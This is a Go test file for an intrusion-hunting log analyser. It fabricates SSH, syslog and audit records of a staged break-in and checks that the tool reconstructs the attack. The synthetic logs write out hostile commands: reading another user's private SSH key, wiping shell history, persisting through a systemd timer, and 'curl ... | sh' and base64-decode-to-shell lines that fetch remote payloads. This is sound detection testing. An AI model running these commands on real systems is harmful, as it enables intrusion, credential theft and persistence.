package hunt_test

import (
	"fmt"
	"strings"
	"testing"
	"testing/fstest"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/tuxtrail/tuxtrail/hunt"
)

// world writes the logs of a made-up host: what happens is told once and comes
// to stand in every log that would have it.
type world struct {
	at     time.Time
	auth   strings.Builder
	syslog strings.Builder
	audit  auditLog
	ses    int
	pid    int
}

func newWorld() *world {
	return &world{at: time.Date(2026, 11, 20, 8, 0, 0, 0, time.UTC), ses: 10, pid: 1000}
}

func (w *world) wait(d time.Duration) { w.at = w.at.Add(d) }

func (w *world) logf(b *strings.Builder, format string, args ...any) {
	fmt.Fprintf(b, "%s web01 %s\n", w.at.Format("2006-01-02T15:04:05.000000+00:00"), fmt.Sprintf(format, args...))
}

func (w *world) authf(format string, args ...any) { w.logf(&w.auth, format, args...) }
func (w *world) sysf(format string, args ...any)  { w.logf(&w.syslog, format, args...) }

func (w *world) stamp() string {
	w.audit.serial++
	return fmt.Sprintf("audit(%d.%03d:%d)", w.at.Unix(), w.at.Nanosecond()/1e6, w.audit.serial)
}

// stay is a logon.
type stay struct {
	pid, uid, ses int
	user          string
}

func (s stay) ids(uid int) string {
	return fmt.Sprintf("auid=%d uid=%d gid=%d euid=%d suid=%d fsuid=%d egid=%d sgid=%d fsgid=%d tty=pts0 ses=%d", s.uid, uid, uid, uid, uid, uid, uid, uid, uid, s.ses)
}

func (w *world) login(user string, uid int, addr, method, key string) stay {
	w.pid += 10
	w.ses++
	s := stay{w.pid, uid, w.ses, user}
	if key != "" {
		key = ": ED25519 SHA256:" + key
	}
	w.authf("sshd[%d]: Accepted %s for %s from %s port %d ssh2%s", s.pid, method, user, addr, 40000+s.pid, key)
	w.authf("sshd[%d]: pam_unix(sshd:session): session opened for user %s(uid=%d) by (uid=0)", s.pid, user, uid)
	w.authf("systemd-logind[500]: New session %d of user %s.", s.ses, user)
	fmt.Fprintf(&w.audit.b, "type=LOGIN msg=%s: pid=%d uid=0 old-auid=4294967295 auid=%d tty=(none) old-ses=4294967295 ses=%d res=1\n", w.stamp(), s.pid, uid, s.ses)
	fmt.Fprintf(&w.audit.b, "type=USER_START msg=%s: pid=%d uid=0 auid=%d ses=%d msg='op=PAM:session_open grantors=pam_unix acct=%q exe=\"/usr/sbin/sshd\" hostname=%s addr=%s terminal=ssh res=success'\n", w.stamp(), s.pid, uid, s.ses, user, addr, addr)
	w.wait(300 * time.Millisecond)
	w.run(s, uid, "/usr/bin/bash", "-bash")
	return s
}

func (w *world) logout(s stay) {
	w.authf("sshd[%d]: pam_unix(sshd:session): session closed for user %s", s.pid, s.user)
	w.authf("systemd-logind[500]: Session %d logged out. Waiting for processes to exit.", s.ses)
	fmt.Fprintf(&w.audit.b, "type=USER_END msg=%s: pid=%d uid=0 auid=%d ses=%d msg='op=PAM:session_close grantors=pam_unix acct=%q exe=\"/usr/sbin/sshd\" hostname=? addr=? terminal=ssh res=success'\n", w.stamp(), s.pid, s.uid, s.ses, s.user)
	w.wait(time.Second)
}

// exec is an execve in the audit log; it returns the pid.
func (w *world) exec(ppid int, ids, exe string, argv ...string) int {
	w.pid++
	s := w.stamp()
	fmt.Fprintf(&w.audit.b, "type=SYSCALL msg=%s: arch=c000003e syscall=59 success=yes exit=0 a0=0 a1=0 a2=0 a3=0 items=2 ppid=%d pid=%d %s comm=%q exe=%q key=\"exec\"\n",
		s, ppid, w.pid, ids, exe[strings.LastIndexByte(exe, '/')+1:], exe)
	fmt.Fprintf(&w.audit.b, "type=EXECVE msg=%s: argc=%d", s, len(argv))
	for i, arg := range argv {
		fmt.Fprintf(&w.audit.b, " a%d=%X", i, arg)
	}
	w.audit.b.WriteString("\n")
	w.wait(20 * time.Millisecond)
	return w.pid
}

func (w *world) run(s stay, uid int, exe string, argv ...string) int {
	return w.exec(s.pid, s.ids(uid), exe, argv...)
}

func (w *world) sudo(s stay, command string) {
	w.authf("sudo:  %s : TTY=pts/0 ; PWD=/home/%s ; USER=root ; COMMAND=%s", s.user, s.user, command)
	fmt.Fprintf(&w.audit.b, "type=USER_CMD msg=%s: pid=%d uid=%d auid=%d ses=%d msg='cwd=\"/home/%s\" cmd=%X exe=\"/usr/bin/sudo\" terminal=pts/0 res=success'\n",
		w.stamp(), w.pid, s.uid, s.uid, s.ses, s.user, command)
	argv := strings.Fields(command)
	w.run(s, 0, argv[0], argv...)
	w.wait(time.Second)
}

func (w *world) su(from stay, to string, uid int) {
	w.pid += 3
	w.authf("su[%d]: (to %s) %s on pts/0", w.pid, to, from.user)
	w.authf("su[%d]: pam_unix(su-l:session): session opened for user %s(uid=%d) by %s(uid=%d)", w.pid, to, uid, from.user, from.uid)
	w.wait(time.Second)
}

func (w *world) files() fstest.MapFS {
	return fstest.MapFS{
		"auth.log":        {Data: []byte(w.auth.String())},
		"syslog":          {Data: []byte(w.syslog.String())},
		"audit/audit.log": {Data: []byte(w.audit.b.String())},
	}
}

const www = "auid=4294967295 uid=33 gid=33 euid=33 suid=33 fsuid=33 egid=33 sgid=33 fsgid=33 tty=(none) ses=4294967295"

// otherIntrusion is a break-in that shares no step with the sample's.
func otherIntrusion() *world {
	w := newWorld()
	apache := w.exec(1, system, "/usr/sbin/apache2", "/usr/sbin/apache2", "-k", "start")
	for range 3 { // three days of the owner's work
		s := w.login("dana", 1004, "192.0.2.4", "publickey", "k1")
		w.run(s, 1004, "/usr/bin/ls", "ls", "-la")
		w.sudo(s, "/usr/bin/apt-get update")
		w.logout(s)
		w.wait(24 * time.Hour)
	}
	thief := w.login("dana", 1004, "203.0.113.9", "publickey", "k1")
	w.run(thief, 1004, "/usr/bin/id", "id")
	w.run(thief, 1004, "/usr/bin/ln", "ln", "-sf", "/dev/null", "/home/dana/.bash_history")
	w.su(thief, "bob", 1005)
	w.run(thief, 1005, "/usr/bin/cat", "cat", "/home/bob/.ssh/id_rsa")
	w.su(stay{thief.pid, 1005, thief.ses, "bob"}, "root", 0)
	w.run(thief, 0, "/usr/bin/tee", "tee", "/var/www/html/up.php")
	w.run(thief, 0, "/usr/bin/tee", "tee", "/etc/systemd/system/sysupd.service")
	w.run(thief, 0, "/usr/bin/tee", "tee", "/etc/systemd/system/sysupd.timer")
	w.run(thief, 0, "/usr/bin/systemctl", "systemctl", "enable", "--now", "sysupd.timer")
	w.sysf("systemd[1]: Started sysupd.timer - updates.")
	w.wait(2 * time.Second)
	w.logout(thief)
	w.wait(time.Minute)
	for range 4 {
		w.sysf("systemd[1]: Starting sysupd.service - updates...")
		sh := w.exec(1, system, "/usr/bin/dash", "/bin/sh", "-c", "curl -s http://203.0.113.77/p | sh")
		w.exec(sh, system, "/usr/bin/curl", "curl", "-s", "http://203.0.113.77/p")
		w.wait(time.Second)
		w.sysf("systemd[1]: sysupd.service: Deactivated successfully.")
		w.wait(time.Minute)
	}
	sh := w.exec(apache, www, "/usr/bin/dash", "sh", "-c", "id")
	w.exec(sh, www, "/usr/bin/id", "id")
	w.wait(5 * time.Second)
	sh = w.exec(apache, www, "/usr/bin/dash", "sh", "-c", "curl -s http://203.0.113.77/w -o /tmp/.w; base64 -d /tmp/.w | sh")
	w.exec(sh, www, "/usr/bin/curl", "curl", "-s", "http://203.0.113.77/w", "-o", "/tmp/.w")
	w.wait(time.Hour)
	s := w.login("dana", 1004, "192.0.2.4", "publickey", "k1")
	w.logout(s)
	return w
}

// edgesOf returns the edges of a graph as "from kind to".
func edgesOf(g *hunt.Graph) []string {
	label := map[string]string{}
	for _, n := range g.Nodes {
		label[n.ID] = n.Label
	}
	var out []string
	for _, e := range g.Edges {
		out = append(out, label[e.From]+" "+string(e.Kind)+" "+label[e.To])
	}
	return out
}

// TestOtherIntrusion: every step of the story, in order, on a host and by means
// that no rule was written for.
func TestOtherIntrusion(t *testing.T) {
	inv := investigate(t, open(t, otherIntrusion().files()), hunt.Options{})
	require.NotEmpty(t, inv.Findings)
	top := inv.Findings[0]
	assert.Equal(t, hunt.SeverityCritical, top.Severity)
	assert.Equal(t, "Break-in: 203.0.113.9 came in as dana with a key that was used from elsewhere before", top.Title)
	assert.Equal(t, []string{"S4", "S5", "S6"}, top.Sessions, "the thief's logon and what it became; never the owner's")
	assert.Contains(t, top.Normal, "dana logged on 3 times before, from 192.0.2.4; never from this address.")
	assert.NotEmpty(t, top.Confirm)
	assert.NotEmpty(t, top.Refute)
	var story strings.Builder
	for _, s := range top.Steps {
		story.WriteString(s.Text + "\n")
	}
	at := 0
	for _, must := range []string{
		"dana logged on from 203.0.113.9 by a key", "/home/dana/.bash_history", "dana became bob with su", "/home/bob/.ssh/id_rsa", "bob became root with su",
		"/etc/systemd/system/sysupd.service", "/etc/systemd/system/sysupd.timer", "told systemd to start sysupd", "http://203.0.113.77/p",
		"systemd started sysupd.service 4 times", "apache2 started", "http://203.0.113.77/w",
	} {
		i := strings.Index(story.String()[at:], must)
		if assert.GreaterOrEqual(t, i, 0, "%q in its place in\n%s", must, &story) {
			at += i
		}
	}
	at = 0
	for _, must := range []string{ // the paragraph tells it in its own order: way in, taken, done, stays
		"dana logged on from 203.0.113.9 by a key", "apache2 started", "as dana, bob (by su), root (by su)", "/home/dana/.bash_history", "/home/bob/.ssh/id_rsa", "http://203.0.113.77/p",
		"What stays: /etc/systemd/system/sysupd.service, /etc/systemd/system/sysupd.timer", "systemd started sysupd.service 4 times",
	} {
		i := strings.Index(top.Paragraph[at:], must)
		if assert.GreaterOrEqual(t, i, 0, "%q in its place in %s", must, top.Paragraph) {
			at += i
		}
	}
	readable(t, &top)
	require.NotNil(t, top.Graph)
	edges := edgesOf(top.Graph)
	for _, must := range []string{
		"203.0.113.9 opened S4: dana (sshd)", "S4: dana (sshd) became S5: bob (su)", "S5: bob (su) became S6: root (su)",
		"S4: dana (sshd) ran ln -sf /dev/null /home/dana/.bash_history", "tee /etc/systemd/system/sysupd.service wrote /etc/systemd/system/sysupd.service",
		"/etc/systemd/system/sysupd.service started_by systemd: sysupd.service",
		"systemd: sysupd.service ran /bin/sh -c curl -s http://203.0.113.77/p | sh", "/usr/sbin/apache2 -k start ran sh -c id",
	} {
		assert.Contains(t, edges, must)
	}
	for _, e := range top.Graph.Edges {
		assert.NotEmpty(t, e.Refs, "%s to %s cites its lines", e.From, e.To)
		assert.Equal(t, e.Basis == hunt.Inferred, e.Reason != "" && !strings.HasPrefix(e.Reason, "through "), "%s to %s: %q", e.From, e.To, e.Reason)
	}
	for _, f := range inv.Findings[1:] {
		assert.LessOrEqual(t, f.Severity.Compare(hunt.SeverityLow), 0, f.Summary)
	}
	for _, v := range inv.Hypotheses {
		assert.Equal(t, hunt.Supported, v.Answer, string(v.Hypothesis))
		assert.Equal(t, []string{"F1"}, v.Findings)
	}
}

func TestWalkFromAnyLine(t *testing.T) {
	inv := investigate(t, open(t, otherIntrusion().files()), hunt.Options{})
	var at string
	for _, p := range inv.Processes {
		if strings.Contains(p.Cmdline, "/tmp/.w; base64") {
			ids := inv.NodesAt(p.Refs[0])
			require.NotEmpty(t, ids)
			at = ids[0]
		}
	}
	require.NotEmpty(t, at)
	g := inv.Walk(at)
	assert.Contains(t, edgesOf(&g), "/usr/sbin/apache2 -k start ran sh -c curl -s http://203.0.113.77/w -o /tmp/.w; base64 -d /tmp/.w | sh")
	g = inv.Walk("file:/etc/systemd/system/sysupd.timer")
	var labels []string
	for _, n := range g.Nodes {
		labels = append(labels, n.Label)
	}
	assert.Contains(t, labels, "203.0.113.9", "backwards to the address")
	assert.Contains(t, labels, "http://203.0.113.77/p", "forwards to what the unit fetched")
	assert.Empty(t, inv.Walk("session:S99").Nodes)
}
